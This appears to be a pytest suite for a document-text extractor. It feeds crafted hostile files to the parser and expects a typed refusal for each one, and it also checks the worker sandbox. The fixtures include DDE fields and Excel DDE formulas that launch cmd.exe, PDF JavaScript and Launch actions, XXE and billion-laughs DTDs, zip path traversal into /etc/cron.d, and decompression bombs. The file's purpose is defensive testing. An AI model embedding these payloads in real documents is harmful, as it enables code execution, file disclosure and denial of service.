"""Hostile, broken and mislabelled files: one typed refusal each, quickly, and nobody else is affected (SR-71 to SR-77)."""

from __future__ import annotations

import io
import os
import random
import struct
import subprocess
import sys
import time
import tomllib
import zipfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from importlib import resources
from pathlib import Path

import openpyxl
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from dingmi.base.errors import Invalid, Unavailable
from dingmi.engines import documents
from dingmi.engines.documents import child, rendering
from dingmi.engines.documents.limits import KINDS
from tests.engines import hostile, office, packages

PDF = rendering.render_text_pdf("供水应急调度预案正文")
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)


def changed_pdf(change) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_part(**more) -> bytes:
    return office.package(office.simple_parts(office.p("正文"), **more))


def with_document(xml: str) -> bytes:
    return office.package({**office.simple_parts(""), "word/document.xml": xml})


def bomb(size: int = 2 * 1024**3) -> bytes:
    """A docx whose main part really inflates to 2 GiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in office.simple_parts("").items():
            if name != "word/document.xml":
                archive.writestr(name, content)
        block = b" " * (16 * 1024 * 1024)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(size // len(block)):
                part.write(block)
    return out.getvalue()


def empty_paragraphs() -> bytes:
    return with_document(office.root("document", "<w:body>" + "<w:p/>" * 3_000_000 + "</w:body>"))


def overlapping() -> bytes:
    data = bytearray(office.simple("一"))
    first = data.find(b"PK\x01\x02")
    second = data.find(b"PK\x01\x02", first + 4)
    struct.pack_into("<I", data, second + 42, struct.unpack_from("<I", data, first + 42)[0] + 1)
    return bytes(data)


def renamed(new: bytes) -> bytes:
    data = with_part(**{"word/zzzzzzzzzzz.xml": "<x/>"})
    assert len(new) == len(b"word/zzzzzzzzzzz.xml")
    return data.replace(b"word/zzzzzzzzzzz.xml", new)


def external(kind: str) -> bytes:
    entry = office.rels(external=(("x", kind, "file:///x"),))
    return with_part(**{"word/_rels/settings.xml.rels": entry, "word/settings.xml": office.root("settings", "")})


LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + i)} '{('&' + chr(97 + i) + ';') * 10}'>" for i in range(9))
    + "]>"
    + office.root("document", "<w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body>")
)
XXE = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/hostname'>]>" + office.root(
    "document", "<w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body>"
)


def javascript(writer):
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def launch(writer):
    action = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("x")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def pdf_with(inner: bytes, *objects: bytes, page: bytes = b"") -> bytes:
    """A PDF whose catalog or page holds something; further objects are numbered from 5."""
    catalog, drawn = (
        hostile.CATALOG.replace(b">>", inner + b">>"),
        hostile.PAGE.replace(b"/Contents", page + b"/Contents"),
    )
    return hostile.pdf(catalog, hostile.PAGES, drawn, hostile.stream(b""), *objects)


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
PROGRAM = b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>"
ACTIVE_PDF = {
    "script after another action": pdf_with(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://a/)>>" + SCRIPT + b"]>>"
    ),
    "script at a field above the one that is shown": pdf_with(
        b"/AcroForm<</Fields[5 0 R]>>", b"<</T(a)/Kids[6 0 R]/AA<</K 7 0 R>>>>", b"<</Parent 5 0 R>>", SCRIPT
    ),
    "form of its own language": pdf_with(
        b"/AcroForm<</Fields[]/XFA 5 0 R>>", hostile.stream(b"<xdp><script>x</script></xdp>")
    ),
    "rendition": pdf_with(
        b"", page=b"/Annots[<</Subtype/Widget/Rect[0 0 9 9]/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>>>]"
    ),
    "program at a bookmark": pdf_with(
        b"/Outlines 5 0 R", b"<</First 6 0 R/Last 6 0 R>>", b"<</Title(a)/Parent 5 0 R/A<</S/Launch/F(cmd.exe)>>>>"
    ),
    "program that belongs to the document": pdf_with(
        b"/AF[5 0 R]", PROGRAM, hostile.stream(b"MZ", b"/Type/EmbeddedFile")
    ),
    "page of a computer far away": pdf_with(
        b"", page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\a\\\\b.pdf)/D[0/Fit]>>>>]"
    ),
    "name of an action in another object": pdf_with(
        b"/OpenAction<</S 5 0 R/JS 6 0 R>>", b"/JavaScript", b"(app.alert\\(1\\))"
    ),
    "name of an action spelt out": pdf_with(b"/OpenAction<</S/#4aavaScript/#4a#53(app.alert\\(1\\))>>"),
    "script that is packed": hostile.packed(b"<</A 1>>", SCRIPT),
    "media by another name": pdf_with(b"", b"<</Type/Annot/Subtype/Rich#4dedia>>"),
    "script that nothing leads to": pdf_with(b"", SCRIPT),
}
BEGIN, SEPARATE, END = (f"<w:r><w:fldChar w:fldCharType='{turn}'/></w:r>" for turn in ("begin", "separate", "end"))


def instruction(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def field(*pieces: str) -> bytes:
    """A docx with a field whose code is spread over runs."""
    return with_document(
        office.root(
            "document", f"<w:body><w:p>{BEGIN}{instruction(*pieces)}{SEPARATE}{END}</w:p>{office.p('正文')}</w:body>"
        )
    )


def simple_field(code: str) -> bytes:
    inner = f"<w:p><w:fldSimple w:instr='{code}'><w:r><w:t>正文</w:t></w:r></w:fldSimple></w:p>"
    return with_document(office.root("document", f"<w:body>{inner}</w:body>"))


def made_field() -> bytes:
    """A field whose name another field makes up."""
    inner = f"{BEGIN}{instruction('QUOTE 68 68 69')}{SEPARATE}<w:r><w:t>DDE</w:t></w:r>{END}"
    whole = f"<w:p>{BEGIN}{inner}{instruction(' c:/a.exe b')}{END}</w:p>"
    return with_document(office.root("document", f"<w:body>{whole}{office.p('正文')}</w:body>"))


def settings(inner: str = "", *far: tuple[str, str, str]) -> bytes:
    """A docx with settings, and relations of theirs that leave the package."""
    return with_part(
        **{
            "word/_rels/document.xml.rels": office.rels(("s", "settings", "settings.xml")),
            "word/settings.xml": office.root("settings", inner),
            "word/_rels/settings.xml.rels": office.rels(external=far),
        }
    )


def embedded(source: str, workbook: bytes) -> bytes:
    """A docx with a chart and a workbook that ``source`` relates to."""
    folder, _, name = source.rpartition("/")
    return with_part(
        **{
            "word/charts/chart1.xml": "<c:chartSpace xmlns:c='urn:c'/>",
            "word/embeddings/Book1.xlsx": workbook,
            f"{folder}/_rels/{name}.rels": office.rels(("e", "package", "/word/embeddings/Book1.xlsx")),
        }
    )


def formula(code: str) -> bytes:
    """A workbook with one formula."""
    made = openpyxl.Workbook()
    made.active["A1"], made.active["B1"] = "供水", f"={code}"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def clicked(action: str) -> bytes:
    """A presentation that does something when its title is touched."""
    with zipfile.ZipFile(io.BytesIO(packages.presentation("供水"))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    slide = next(name for name in parts if name.startswith("ppt/slides/slide"))
    link = f"<a:hlinkMouseOver xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main' action='{action}'/>"
    parts[slide] = parts[slide].replace(b"</p:sld>", link.encode() + b"</p:sld>")
    return office.package(parts)


BODY = "word/document.xml"
ACTIVE_OFFICE = {
    "field that starts a program": (field('DDEAUTO c:/cmd.exe "/k calc"'), "a.docx", "file.external_field"),
    "field spread over runs": (field(" D", "DEAU", "TO c:/cmd.exe"), "a.docx", "file.external_field"),
    "field in one piece": (simple_field(" dde cmd a"), "a.docx", "file.external_field"),
    "field that another field makes up": (made_field(), "a.docx", "file.external_field"),
    "picture by a field": (field('INCLUDEPICTURE "http://a/b.png" \\d'), "a.docx", "file.external_field"),
    "letters in series": (settings("", ("m", "mailMergeSource", "file:///c:/a.mdb")), "a.docx", "file.external_content"),
    "letters in series by themselves": (
        settings("<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>"), "a.docx", "file.external_content"
    ),
    "relation that nobody knows": (external("somethingNew"), "a.docx", "file.external_content"),
    "relations in capital letters": (
        with_part(**{"word/_rels/DOCUMENT.XML.RELS": office.rels(external=(("x", "image", "http://a/b.png"),))}),
        "a.docx",
        "file.external_content",
    ),
    "workbook as an object": (embedded(BODY, packages.workbook("一")), "a.docx", "file.embedded_object"),
    "chart with a program": (embedded("word/charts/chart1.xml", b"MZ"), "a.docx", "file.embedded_object"),
    "chart with a formula that fetches": (
        embedded("word/charts/chart1.xml", formula("cmd|'/C calc'!A0")), "a.docx", "file.external_content"
    ),
    "formula that starts a program": (formula("A1+cmd|'/C calc'!A0"), "a.xlsx", "file.external_content"),
    "formula that asks the web": (formula('_xlfn.WEBSERVICE("http://a/"&A1)'), "a.xlsx", "file.external_content"),
    "formula of another file": (formula("'\\\\10.0.0.1\\a\\[b.xlsx]c'!A1"), "a.xlsx", "file.external_content"),
    "program at a touch": (clicked("ppaction://program"), "a.pptx", "file.active_content"),
}  # fmt: skip


CASES = {
    **{f"pdf: {name}": (data, "a.pdf", "file.active_content") for name, data in ACTIVE_PDF.items()},
    **ACTIVE_OFFICE,
    "empty": (b"", "a.docx", "file.empty"),
    "exe as docx": (b"MZ" + bytes(500), "a.docx", "file.mislabelled"),
    "docx as pdf": (office.simple("一"), "a.pdf", "file.mislabelled"),
    "pdf as txt": (PDF, "a.txt", "file.mislabelled"),
    "text as docx": (b"just text here", "a.docx", "file.mislabelled"),
    "exe": (b"MZ" + bytes(500), "a.exe", "file.type_not_accepted"),
    "old doc": (OLE, "a.doc", "file.type_not_accepted"),
    "other zip": (office.package({"a.txt": "x"}), "a.zip", "file.type_not_accepted"),
    "encrypted docx": (OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx", "file.encrypted"),
    "encrypted pdf": (changed_pdf(lambda w: w.encrypt("x", algorithm="RC4-128")), "a.pdf", "file.encrypted"),
    "truncated docx": (office.everything()[:900], "a.docx", "file.damaged"),
    "truncated pdf": (PDF[:300], "a.pdf", "file.damaged"),
    "broken xml": (with_document("<w:document"), "a.docx", "file.damaged"),
    "macro part": (with_part(**{"word/vbaProject.bin": b"x"}), "a.docx", "file.macro"),
    "macro type": (
        office.package(
            {
                **office.simple_parts(""),
                "[Content_Types].xml": "<T>wordprocessingml application/vnd.ms-word.document.macroEnabled.main+xml</T>",
            }
        ),
        "a.docx",
        "file.macro",
    ),
    "external template": (external("attachedTemplate"), "a.docx", "file.external_template"),
    "external image": (external("image"), "a.docx", "file.external_content"),
    "ole object": (
        with_part(**{"word/_rels/document.xml.rels": office.rels(("o", "oleObject", "embeddings/o.bin"))}),
        "a.docx",
        "file.embedded_object",
    ),
    "billion laughs": (with_document(LAUGHS), "a.docx", "file.xml_dtd"),
    "xxe": (with_document(XXE), "a.docx", "file.xml_dtd"),
    "path traversal": (renamed(b"../../etc/cron.d/xml"), "a.docx", "file.unsafe_path"),
    "absolute path": (renamed(b"/etc/cron.d/xxxx.xml"), "a.docx", "file.unsafe_path"),
    "case variant": (with_part(**{"Word/Document.xml": "<x/>"}), "a.docx", "file.damaged"),
    "overlap": (overlapping(), "a.docx", "file.bomb"),
    "lying zip": (office.lying_zip(), "a.docx", "file.damaged"),
    "two gibibytes": (bomb, "a.docx", "file.bomb"),
    "empty paragraphs": (
        empty_paragraphs,
        "a.docx",
        "file.bomb",
    ),
    "many parts": (with_part(**{f"x/{i}.xml": "" for i in range(2100)}), "a.docx", "file.bomb"),
    "pdf javascript": (changed_pdf(javascript), "a.pdf", "file.active_content"),
    "pdf launch": (changed_pdf(launch), "a.pdf", "file.active_content"),
    "pdf attachment": (changed_pdf(lambda w: w.add_attachment("x.txt", b"x")), "a.pdf", "file.active_content"),
}


@pytest.mark.parametrize("case", CASES)
def test_hostile_file_gets_its_own_refusal_quickly(case):
    data, name, code = CASES[case]
    data = data() if callable(data) else data
    began = time.perf_counter()
    with pytest.raises(Invalid) as caught:
        documents.extract(data, name)
    assert caught.value.code == code
    assert time.perf_counter() - began < 25


@pytest.mark.parametrize(
    "data, name",
    [
        (embedded("word/charts/chart1.xml", packages.workbook("一")), "a.docx"),
        (field("HYPERLINK ", '"http://a/dde"'), "a.docx"),
        (field("PAGE \\* MERGEFORMAT"), "a.docx"),
        (formula('IF(A1="a|b",HYPERLINK("http://a/"),SUM(\'Sheet\'!A1:A2))'), "a.xlsx"),
        (clicked("ppaction://hlinkshowjump?jump=nextslide"), "a.pptx"),
    ],
)
def test_links_and_the_numbers_of_a_chart_are_no_danger(data, name):
    assert documents.extract(data, name).text


def test_a_pdf_with_links_bookmarks_and_fields_is_read():
    def linked(writer):
        page = writer.pages[0]
        links = [
            {"/S": "/URI", "/URI": "http://a/"},
            {"/S": "/GoTo", "/D": "/one"},
            {"/S": "/Named", "/N": "/NextPage"},
        ]
        writer.add_outline_item("一", 0)
        notes = ArrayObject()
        for link in links:
            values = {k: NameObject(v) if v[0] == "/" else TextStringObject(v) for k, v in link.items()}
            action = DictionaryObject({NameObject(k): v for k, v in values.items()})
            notes.append(DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action}))
        page[NameObject("/Annots")] = notes
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject()})

    assert "供水应急" in documents.extract(changed_pdf(linked), "a.pdf").text


def test_data_of_a_pdf_that_lie_in_another_file_are_not_fetched():
    for far in (
        pdf_with(b"", hostile.stream(b"", b"/F(http://a/b)")),
        pdf_with(b"", hostile.stream(b"", b"/F 6 0 R"), b"<</FS/URL/F(http://a/b)>>"),
        pdf_with(b"", hostile.stream(b"", b"/#46<</FS/URL>>")),
        pdf_with(b"", hostile.stream(b"", b"/Subtype/Form/Ref<</F(c)/Page 0>>")),
    ):
        with pytest.raises(Invalid, match="external_content"):
            documents.extract(far, "a.pdf")


def huge_page_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 999999 999999]>>endobj\ntrailer<</Root 1 0 R>>\n"
    )


def nested_forms_pdf(depth: int = 40) -> bytes:
    """Each form draws the next one twice."""
    parts = [
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    ]
    parts.append(
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<</XObject<</X 5 0 R>>>>/Contents 4 0 R>>endobj\n"
    )
    parts.append(b"4 0 obj<</Length 5>>stream\n/X Do\nendstream endobj\n")
    for i in range(depth):
        parts.append(
            b"%d 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>/Length 11>>stream\n"
            b"/X Do /X Do\nendstream endobj\n" % (5 + i, 6 + i)
        )
    return b"".join(parts) + b"trailer<</Root 1 0 R>>\n"


def flate_bomb_pdf() -> bytes:
    import zlib

    body = zlib.compress(zlib.compress(b"0 " * 100_000_000, 1), 9)
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>endobj\n"
        b"4 0 obj<</Filter[/FlateDecode/FlateDecode]/Length "
        + str(len(body)).encode()
        + b">>stream\n"
        + body
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n"
    )


@pytest.mark.parametrize("make", [huge_page_pdf, nested_forms_pdf, flate_bomb_pdf])
def test_small_pdf_that_wants_the_machine_dies_alone(make):
    data = make()
    began = time.perf_counter()
    with pytest.raises(Invalid) as caught:
        documents.extract(data, "a.pdf")
    assert caught.value.code.startswith("file.")
    assert time.perf_counter() - began < 25


def test_mutated_files_end_in_text_or_in_one_typed_refusal():
    """Structure-aware mutants, in this process for speed; the worker turns every other exception into a refusal."""
    from dataclasses import asdict

    from dingmi.engines.documents import jobs
    from dingmi.engines.documents.limits import DEFAULT

    chance, seeds, crashes = random.Random(7), [(office.everything(), "a.docx"), (PDF, "a.pdf")], []
    for round_number in range(120):
        data, name = seeds[round_number % 2]
        mutant = bytearray(data)
        for _ in range(chance.randint(1, 6)):
            mutant[chance.randrange(len(mutant))] = chance.randrange(256)
        try:
            jobs.run("extract", bytes(mutant), {"filename": name}, asdict(DEFAULT))
        except Invalid as error:
            assert error.code.startswith("file.")
        except Exception as error:
            crashes.append(type(error).__name__)
    assert len(crashes) <= 2, crashes


def test_too_large_is_refused_before_a_process_starts(monkeypatch):
    monkeypatch.setattr(child, "run", lambda *a: pytest.fail("started"))
    with pytest.raises(Invalid) as caught:
        documents.extract(b"x" * 101, "a.txt", replace(documents.DEFAULT, **{f"{kind}_bytes": 100 for kind in KINDS}))
    assert caught.value.code == "file.too_large"


def test_slow_job_is_killed_on_the_wall_limit():
    with pytest.raises(Invalid, match="too_slow"):
        documents.extract(office.simple("一"), "a.docx", replace(documents.DEFAULT, wall_seconds=0))


def test_worker_that_dies_is_one_refusal():
    with pytest.raises(Invalid, match="parser_died"):
        documents.extract(office.simple("一"), "a.docx", replace(documents.DEFAULT, output_bytes=3))


def test_parsers_that_die_are_loaded_again_and_their_absence_is_said(monkeypatch):
    documents.extract(office.simple("一"), "a.docx")
    child._nursery.process.kill()
    child._nursery.process.wait()
    assert documents.extract(office.simple("二"), "a.docx").text == "二"
    child._close()
    for program in ("/bin/false", "/nonexistent"):
        monkeypatch.setattr(child.sys, "executable", program)
        with pytest.raises(Unavailable, match="worker_unavailable"):
            documents.extract(office.simple("一"), "a.docx")


def test_jobs_side_by_side_have_their_own_children_and_answers():
    words = [f"第{number}件" for number in range(8)]
    with ThreadPoolExecutor(4) as pool:
        read = pool.map(lambda word: documents.extract(office.simple(word), "a.docx").text, words)
    assert list(read) == words


def test_worker_sees_no_secrets_of_its_parent(monkeypatch):
    monkeypatch.setenv("DINGMI_SECRET", "s3cret")
    child._close()
    documents.extract(office.simple("一"), "a.docx")
    process = child._nursery.process.pid
    assert b"s3cret" not in Path(f"/proc/{process}/environ").read_bytes()
    open_files = {os.readlink(file) for file in Path(f"/proc/{process}/fd").iterdir()}
    assert all(file == "/dev/null" or file.startswith("socket:") for file in open_files)


CONFINED = """
import ctypes, json, os, socket, sys
from dataclasses import asdict
from pathlib import Path
from dingmi.base import confine
from dingmi.engines.documents import limits, worker

ready, folder, libc = socket.socket(), Path(sys.argv[1]), ctypes.CDLL(None, use_errno=True)
worker._limit({"limits": asdict(limits.DEFAULT), "arguments": {}}, folder)


def refused(act, *given):
    try:
        act(*given)
    except PermissionError:
        return True
    return False


def fails(name, *given):
    return getattr(libc, name)(*given) == -1 and ctypes.get_errno() == 1


told = {f"socket {kind}": refused(socket.socket, kind) for kind in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX)}
told["connect"] = refused(ready.connect, ("127.0.0.1", 9))
told["bind"] = refused(ready.bind, ("127.0.0.1", 0))
told["start"] = refused(os.fork) and refused(os.execv, sys.executable, ["x"])
told["look into its parent"] = fails("ptrace", 16, os.getppid(), 0, 0)
told["signal"] = not confine.HELD["files"] or refused(os.kill, os.getppid(), 0)
told["read"] = not confine.HELD["files"] or (refused(open, folder.parent / "key") and refused(os.listdir, folder.parent))
told["write"] = not confine.HELD["files"] or refused(open, folder.parent / "new", "w")
told["work"] = (folder / "answer").write_bytes(b"1") == 1 and (folder / "answer").read_bytes() == b"1"
told["load"] = __import__("colorsys") is not None and open("/dev/null").read() == ""
print(json.dumps([name for name, holds in told.items() if not holds]))
"""


def test_a_child_with_its_limits_on_reaches_nothing_but_its_work(tmp_path):
    (tmp_path / "key").write_text("s3cret")
    (tmp_path / "job").mkdir()
    asked = [sys.executable, "-c", CONFINED, str(tmp_path / "job")]
    told = subprocess.run(asked, capture_output=True, text=True, timeout=120)
    assert told.stdout.strip() == "[]", (told.stdout, told.stderr)


def test_what_the_kernel_cannot_keep_from_a_parser_is_said(monkeypatch):
    assert set(documents.unconfined()) <= {"files"}
    monkeypatch.setattr(child, "run", lambda *_: ({"network": False, "files": True}, b""))
    assert documents.unconfined() == ("network",)


def test_parsers_end_with_the_process_that_asked_for_them():
    asking = "from dingmi.engines import documents as d; from dingmi.engines.documents import child\n"
    asking += "d.recognise(b'text', 'a.txt'); print(child._nursery.process.pid, flush=True); import os; os._exit(9)"
    told = subprocess.run([sys.executable, "-c", asking], capture_output=True, text=True, timeout=120)
    started = Path(f"/proc/{int(told.stdout)}")
    for _ in range(200):
        if not started.exists() or "\nState:\tZ" in (started / "status").read_text():
            break
        time.sleep(0.05)
    else:
        pytest.fail("still there")


def test_every_refusal_speaks_both_languages():
    import pathlib
    import re

    import dingmi

    base = pathlib.Path(next(iter(dingmi.__path__)))
    source = "".join(f.read_text() for f in (base / "engines").rglob("*.py"))
    codes = set(re.findall(r'"((?:file|mark|font|cipher|crypto|key|canonical)\.[a-z_]+)"', source))
    for lang in ("zh", "en"):
        known: dict[str, dict[str, str]] = {}
        for topic in ("documents", "crypto"):
            known |= tomllib.loads(
                (resources.files("dingmi.base.messages") / lang / f"{topic}.toml").read_text("utf-8")
            )
        assert codes - set(known) == set()
        assert all(entry["text"] and entry["remedy"] for entry in known.values())
